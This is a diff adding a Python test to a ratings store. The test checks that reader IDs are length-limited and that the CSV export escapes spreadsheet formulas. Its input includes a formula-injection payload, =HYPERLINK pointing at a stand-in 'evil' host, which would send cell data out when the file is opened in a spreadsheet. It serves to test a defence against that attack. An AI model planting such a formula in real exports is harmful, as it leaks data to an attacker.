@@ -52,3 +52,18 @@ def test_ratings_are_stamped_in_utc_and_validated(tmp_path):
     with sqlite3.connect(tmp_path / "ratings.sqlite") as conn:
         assert conn.execute("SELECT count(*) FROM ratings").fetchone()[0] == 1
     assert datetime.fromisoformat(store.rows()[0]["rated_at"]).tzinfo is not None
+
+
+def test_reader_ids_are_bounded_and_the_csv_export_is_formula_safe(tmp_path):
+    """Issue 19 minor: reader ids had no length limit, and `=HYPERLINK(...)` landed raw in the
+    ratings CSV, where a spreadsheet runs it."""
+    import csv
+    import io
+
+    store = ReaderStore(tmp_path / "ratings.sqlite")
+    with pytest.raises(ValueError, match="at most 64"):
+        store.record(rating("x" * 65, "real", "real", "normal"))
+    store.record(rating('=HYPERLINK("http://evil/?"&A1,"ok")', "real", "real", "+normal"))
+    rows = list(csv.reader(io.StringIO(store.csv_bytes().decode())))
+    assert rows[1][1] == '\'=HYPERLINK("http://evil/?"&A1,"ok")' and rows[1][7] == "'+normal"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
